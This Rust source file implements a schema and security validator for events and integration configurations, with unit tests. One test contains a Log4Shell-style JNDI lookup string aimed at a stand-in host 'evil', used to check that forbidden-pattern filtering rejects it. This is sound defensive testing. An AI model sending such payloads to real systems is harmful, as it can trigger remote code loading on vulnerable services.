// iSECTECH Security Integrations - Schema Validation
// Default schema and security checks for events and configurations
// Copyright (c) 2024 iSECTECH. All rights reserved.

use async_trait::async_trait;
use serde_json::Value;

use crate::config::{IntegrationConfig, ValidationConfig};
use crate::error::{IntegrationError, Result};
use super::{json_depth, Validator};

/// Default validator used when no external validation service is wired in
pub struct SchemaValidator {
    config: ValidationConfig,
    max_event_size: usize,
    max_depth: usize,
    /// Lowercased copies of the forbidden patterns
    forbidden: Vec<String>,
}

impl SchemaValidator {
    pub fn new(config: ValidationConfig, max_event_size: usize, max_depth: usize) -> Self {
        let forbidden = config.forbidden_patterns.iter().map(|p| p.to_lowercase()).collect();
        Self {
            config,
            max_event_size,
            max_depth,
            forbidden,
        }
    }

    fn find_forbidden(&self, value: &Value) -> Option<&str> {
        let mut stack = vec![value];
        while let Some(current) = stack.pop() {
            match current {
                Value::String(s) => {
                    let lowered = s.to_lowercase();
                    if let Some(pattern) = self.forbidden.iter().find(|p| lowered.contains(p.as_str())) {
                        return Some(pattern.as_str());
                    }
                }
                Value::Array(items) => stack.extend(items.iter()),
                Value::Object(map) => stack.extend(map.values()),
                _ => {}
            }
        }
        None
    }
}

#[async_trait]
impl Validator for SchemaValidator {
    async fn validate_event(&self, event: &Value) -> Result<()> {
        let object = event.as_object().ok_or_else(|| {
            IntegrationError::ValidationFailed("Event must be a JSON object".to_string())
        })?;

        if object.is_empty() {
            return Err(IntegrationError::ValidationFailed("Event has no fields".to_string()));
        }

        for field in &self.config.required_event_fields {
            match object.get(field) {
                None | Some(Value::Null) => {
                    return Err(IntegrationError::ValidationFailed(format!(
                        "Event is missing required field '{}'", field
                    )));
                }
                Some(_) => {}
            }
        }

        let depth = json_depth(event);
        if depth > self.max_depth {
            return Err(IntegrationError::ValidationFailed(format!(
                "Event nesting depth {} exceeds maximum of {}", depth, self.max_depth
            )));
        }

        let size = serde_json::to_vec(event)?.len();
        if size >= self.max_event_size {
            return Err(IntegrationError::ValidationFailed(format!(
                "Event of {} bytes is not below the limit of {} bytes", size, self.max_event_size
            )));
        }

        if let Some(pattern) = self.find_forbidden(event) {
            return Err(IntegrationError::ValidationFailed(format!(
                "Event failed security check: contains forbidden pattern '{}'", pattern
            )));
        }

        Ok(())
    }

    async fn validate_config(&self, config: &IntegrationConfig) -> Result<()> {
        config.validate()?;

        if let Some(required) = self.config.required_credentials.get(&config.platform_type) {
            for key in required {
                let present = config.credentials.get(key).map_or(false, |v| !v.trim().is_empty());
                if !present {
                    return Err(IntegrationError::ValidationFailed(format!(
                        "Integration {} is missing credential '{}' required by platform {}",
                        config.name, key, config.platform_type
                    )));
                }
            }
        }

        for (key, value) in &config.settings {
            if self.find_forbidden(value).is_some() {
                return Err(IntegrationError::ValidationFailed(format!(
                    "Setting '{}' failed security check", key
                )));
            }
        }

        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn validator() -> SchemaValidator {
        let mut config = ValidationConfig::default();
        config.required_event_fields = vec!["event_type".to_string()];
        config
            .required_credentials
            .insert("okta".to_string(), vec!["api_token".to_string()]);
        SchemaValidator::new(config, 1024, 4)
    }

    #[tokio::test]
    async fn test_valid_event() {
        let event = json!({"event_type": "user.login", "actor": {"id": "u1"}});
        assert!(validator().validate_event(&event).await.is_ok());
    }

    #[tokio::test]
    async fn test_event_schema_failures() {
        let v = validator();
        assert!(v.validate_event(&json!([1, 2])).await.is_err());
        assert!(v.validate_event(&json!({"actor": "u1"})).await.is_err());
        assert!(v.validate_event(&json!({"event_type": null})).await.is_err());
        assert!(v
            .validate_event(&json!({"event_type": "x", "a": {"b": {"c": {"d": 1}}}}))
            .await
            .is_err());
    }

    #[tokio::test]
    async fn test_event_security_check() {
        let event = json!({"event_type": "x", "payload": ["${JNDI:ldap://evil}"]});
        let err = validator().validate_event(&event).await.unwrap_err();
        assert!(err.to_string().contains("security check"));
    }

    #[tokio::test]
    async fn test_config_required_credentials() {
        let v = validator();
        let missing = IntegrationConfig::new("okta", "corp");
        assert!(matches!(
            v.validate_config(&missing).await,
            Err(IntegrationError::ValidationFailed(_))
        ));

        let complete = missing.with_credential("api_token", "secret/okta/api-token");
        assert!(v.validate_config(&complete).await.is_ok());

        let other_platform = IntegrationConfig::new("crowdstrike", "edr");
        assert!(v.validate_config(&other_platform).await.is_ok());
    }

    #[tokio::test]
    async fn test_config_structural_errors_keep_kind() {
        let err = validator()
            .validate_config(&IntegrationConfig::new("okta", ""))
            .await
            .unwrap_err();
        assert!(matches!(err, IntegrationError::InvalidInput(_)));
    }
}
